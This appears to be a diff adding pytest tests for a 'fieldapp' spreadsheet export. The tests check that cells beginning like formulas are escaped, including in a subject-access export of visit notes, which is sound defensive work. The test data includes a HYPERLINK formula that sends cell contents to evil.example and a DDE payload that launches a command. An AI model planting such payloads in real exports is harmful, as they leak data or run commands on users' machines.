@@ -1,0 +1,43 @@
+"""Exports open in a spreadsheet as data: a cell that starts like a formula is neutralised."""
+
+from __future__ import annotations
+
+import csv
+import io
+import uuid
+import zipfile
+
+import pytest
+
+from fieldapp.common import spreadsheet
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        (FORMULA, "'" + FORMULA),
+        ("+32 470 12 34 56", "'+32 470 12 34 56"),
+        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-0.50", "-0.50"),
+        ("+1,5", "+1,5"),
+        ("Een gewone notitie = goed", "Een gewone notitie = goed"),
+        (-3, -3),
+    ],
+)
+def test_a_cell_that_starts_like_a_formula_is_neutralised(value, shown):
+    assert spreadsheet.cell(value) == shown
+
+
+def test_a_formula_in_a_note_stays_text_in_the_subject_access_export(client, auth, make):
+    world = make.world()
+    auth.login(world.counsellor.email)
+    note = {"note_uuid": str(uuid.uuid4()), "revision_uuid": str(uuid.uuid4()), "body": FORMULA}
+    assert client.post(f"/api/visits/{world.visit.id}/notes", json=note).status_code == 201
+    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/clients/{world.client.id}/export").data))
+    rows = list(csv.DictReader(io.StringIO(archive.read("visit_notes.csv").decode())))
+    assert [row["body"] for row in rows] == ["'" + FORMULA]
